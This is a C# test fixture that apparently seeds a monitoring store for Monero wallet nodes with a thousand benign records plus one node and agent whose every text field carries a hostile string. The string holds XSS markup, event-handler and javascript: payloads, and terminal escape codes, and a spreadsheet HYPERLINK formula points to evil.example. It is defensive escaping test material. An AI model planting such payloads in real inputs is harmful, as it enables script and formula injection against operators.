using System.Collections.Immutable;
using System.Globalization;
using System.Text.Json;
using MoneroCloud.Core;
using MoneroCloud.Functions;

namespace MoneroCloud.EndToEnd.Tests;

/// <summary>Rows as agents, nodes and operators would have left them: a thousand harmless nodes, and one node and one agent whose every text is hostile.</summary>
internal static class SeededFleet
{
    public const int Nodes = 1_000;

    /// <summary>Markup, attributes that run, an address that runs, what turns a line, and what moves a terminal.</summary>
    public const string Hostile = "<script>window.pwned=1</script><img src=x onerror=window.pwned=1>\"onmouseover=window.pwned=1 '</td>javascript:window.pwned=1\u202e\u001b[2J";

    /// <summary>What of it stands on a page as text, whatever else becomes of it.</summary>
    public const string Seen = "<script>window.pwned=1</script>";

    /// <summary>What a spreadsheet would compute.</summary>
    public const string Formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")";

    private const string Subject = "evil.node";

    public static string Incident { get; } = Core.Incident.IdOf(Subject, DateTimeOffset.UnixEpoch, "seeded");

    public static string Order { get; } = $"{Shard.Of(Subject)}{new string('a', 32)}";

    public static async Task StoreAsync(ITable table, DateTimeOffset now, CancellationToken cancellation)
    {
        var rows = new List<RowChange>();
        for (var i = 0; i < Nodes; i++)
        {
            rows.Add(Row(Node(string.Create(CultureInfo.InvariantCulture, $"fleet-{i / 100}.node-{i % 100}"), i % 50 == 7, now)));
        }

        rows.Add(Row(EvilNode(now)));
        rows.Add(Put(Keys.Agent(NodeName.Parse("evil")), JsonSerializer.Serialize(EvilAgent(now), CoreJson.Default.AgentRecord)));
        rows.AddRange(EvilIncident(now));
        rows.AddRange(EvilHistory(now).Select(e => Put(Keys.History(Subject, e), JsonSerializer.Serialize(e, CoreJson.Default.HistoryEntry))));
        rows.AddRange(EvilOrder(now));
        rows.Add(AlertRows.Ledger(EvilAlert(now), Hostile, now, now.AddDays(1)));
        rows.Add(Put(Keys.Delivered(EvilAlert(now), Hostile), JsonSerializer.Serialize(EvilDelivery(now), MonitorJson.Default.DeliveryRecord)));
        rows.Add(Put(Keys.Audit(Subject, now, "seeded"), JsonSerializer.Serialize(EvilAudit(now), MonitorJson.Default.AuditView)));
        rows.Add(Put(Keys.Silence("0123456789ab"), JsonSerializer.Serialize(EvilSilence(now), CoreJson.Default.Silence)));
        foreach (var shard in rows.GroupBy(r => r.Key.Shard))
        {
            foreach (var part in shard.Chunk(CommitBounds.MaxRows))
            {
                await table.CommitAsync(part, cancellation);
            }
        }
    }

    private static RowChange.Put Put(RowKey key, string json) => new(new Row { Key = key, Doc = json });

    private static RowChange.Put Row(NodeRecord node) => Put(Keys.Node(node.Id), JsonSerializer.Serialize(node, CoreJson.Default.NodeRecord));

    private static NodeRecord Node(string id, bool down, DateTimeOffset now) => NodeRecord.New(NodeId.TryParse(id, out var parsed) ? parsed : throw new ArgumentException(id), NodeKind.WalletRpc, now.AddHours(-1)) with
    {
        Port = 18_083,
        Labels = ImmutableSortedDictionary<string, string>.Empty.Add("zone", "eu"),
        Health = new Health
        {
            State = down ? HealthState.Down : HealthState.Up,
            Condition = down ? Condition.Exited : Condition.Healthy,
            Since = now.AddMinutes(-30),
            LastCheck = now,
            Last = new Diagnosis
            {
                Condition = down ? Condition.Exited : Condition.Healthy,
                State = down ? HealthState.Down : HealthState.Up,
                Certainty = Certainty.Certain,
                Remedy = Remedy.None,
                Explanation = down ? "exited (code 1; the disk is full)" : "answers in 3 ms",
            },
        },
    };

    private static NodeRecord EvilNode(DateTimeOffset now)
    {
        var node = Node(Subject, down: true, now);
        return node with
        {
            Labels = ImmutableSortedDictionary<string, string>.Empty.Add(Hostile, Hostile),
            Health = node.Health with { Last = node.Health.Last! with { Explanation = Hostile } },
            Phase = Hostile,
            Identity = new ProcessIdentity(Hostile, 4711, 1, Hostile) { Executable = Hostile },
            Breaker = new BreakerStanding { State = BreakerState.Open, Since = now, Why = Hostile },
            Desired = new DesiredState.Stopped(Hostile, now),
            HeldRestart = new HeldRestart(Condition.Hung, Hostile, now),
            Host = new HostSighting(1, new ObservedEvidence(1, now, 0, VerdictRow.Begin(Condition.Exited, now), EvilEvidence()), now),
            WorkedData = new WorkedData.Api(Hostile, null, Hostile, Hostile) { Explanation = Hostile },
        };
    }

    private static HostEvidence EvilEvidence() => new()
    {
        Process = new ProcessSighting.NotPermitted(Hostile),
        Port = new PortSighting.Taken(1, Hostile),
        Api = new ApiAnswer.NotJsonRpc(Hostile),
        Lock = new LockSighting.Orphan(1, Hostile),
        OpenFailed = Hostile,
    };

    private static AgentRecord EvilAgent(DateTimeOffset now) => new()
    {
        Name = NodeName.Parse("evil"),
        Keys = [],
        EnrolledAt = now,
        EnrolledBy = Hostile,
        ReceivedAt = now.AddDays(1), // It never turns silent: what it hides would not be seen.
        Version = Hostile,
        Names = [NodeName.Parse("node")],
    };

    private static RowChange[] EvilIncident(DateTimeOffset now)
    {
        var incident = new Incident
        {
            Id = Incident,
            Subject = Subject,
            OpenedAt = now.AddMinutes(-10),
            Severity = AlertSeverity.Critical,
            Title = Hostile,
            Text = Hostile,
            Causes = [Hostile],
            Labels = ImmutableSortedDictionary<string, string>.Empty.Add(Hostile, Hostile),
            ToldAt = now,
            ToldTo = [Hostile],
            Acknowledged = new Acknowledgement(Hostile, now, now.AddHours(4), Hostile),
            Held = new Hold(Hostile, now, null),
            Actions = [new IncidentAction(now, IncidentActionKind.Opened, Hostile, Hostile)],
        };
        return
        [
            new RowChange.Put(new Row { Key = Keys.OpenIncident(Subject), Doc = JsonSerializer.Serialize(incident, CoreJson.Default.Incident), Due = now.AddHours(4) }),
            Put(Keys.IncidentPlace(Incident)!.Value, JsonSerializer.Serialize(new IncidentPlace(Subject, incident.OpenedAt), MonitorJson.Default.IncidentPlace)),
        ];
    }

    private static HistoryEntry[] EvilHistory(DateTimeOffset now) =>
    [
        new() { At = now, Place = "1.1", Fact = new NodeFact.SpawnFailed(Hostile) },
        new() { At = now, Place = "1.0", Transition = new Transition(HealthState.Up, HealthState.Up, Condition.Healthy, Condition.Healthy, now, Formula) },
        new() { At = now, Place = "1.2", Transition = new Transition(HealthState.Up, HealthState.Down, Condition.Healthy, Condition.Exited, now, Hostile) },
        new()
        {
            At = now,
            Place = "1.3",
            Fact = new NodeFact.Proved(new RestartProof
            {
                State = ProofState.Complete,
                Reason = new RestartReason.ByOrder("restart", Hostile),
                Explanation = Hostile,
                Found = Condition.Hung,
                Began = now,
                TookMs = 5_000,
                Steps =
                [
                    new LadderStep(LadderRung.Store, now, 120, new StepResult.Ok(Hostile)), new LadderStep(LadderRung.StopWallet, now, 10, new StepResult.Declined(-1, Hostile)),
                    new LadderStep(LadderRung.Terminate, now, 900, new StepResult.Failed(Hostile)), new LadderStep(LadderRung.Answer, now, 3_000, new StepResult.Skipped(Hostile)),
                ],
                Losses = new Losses.NotKnown(Hostile),
            }),
        },
    ];

    private static RowChange[] EvilOrder(DateTimeOffset now)
    {
        var order = new Order
        {
            Id = Order,
            Audience = NodeName.Parse("evil"),
            Node = NodeName.Parse("node"),
            IssuedAt = now.ToUnixTimeSeconds(),
            ExpiresAt = now.AddMinutes(5).ToUnixTimeSeconds(),
            Verb = OrderVerb.Restart,
            By = Hostile,
            Identity = new ProcessIdentity(Hostile, 4711, 1, Hostile),
        };
        var record = new OrderRecord
        {
            Order = order,
            State = OrderState.Ended,
            StoredAt = now,
            TakenAt = now,
            EndedAt = now,
            Steps = [new LadderStep(LadderRung.Store, now, 120, new StepResult.Failed(Hostile))],
            Outcome = new Outcome { Result = OutcomeResult.Failed, Text = Hostile, Before = order.Identity, After = order.Identity },
        };
        return [Put(Keys.Order(Order)!.Value, JsonSerializer.Serialize(record, CoreJson.Default.OrderRecord)), Put(Keys.Placed(record), "{}")];
    }

    private static Alert EvilAlert(DateTimeOffset now) => new()
    {
        Id = new string('e', 24),
        Subject = Subject,
        Kind = AlertKind.Down,
        Severity = AlertSeverity.Critical,
        At = now,
        Due = now,
        Title = Hostile,
        Text = Hostile,
        Incident = Incident,
    };

    private static DeliveryRecord EvilDelivery(DateTimeOffset now) => new() { Alert = EvilAlert(now), Channel = Hostile, At = now, Attempts = 1, Receipt = Hostile };

    private static AuditView EvilAudit(DateTimeOffset now) => new() { At = now, By = Hostile, Key = "00000000", From = Hostile, Door = Hostile, Deed = Hostile, Subject = Hostile, Details = Hostile, Result = Hostile };

    private static Silence EvilSilence(DateTimeOffset now) => new()
    {
        Id = "0123456789ab",
        Kind = SilenceKind.Silence,
        Match = new AlertMatcher { Labels = ImmutableSortedDictionary<string, string>.Empty.Add(Hostile, Hostile) },
        From = now,
        Until = now.AddDays(1),
        By = Hostile,
        Comment = Hostile,
    };
}
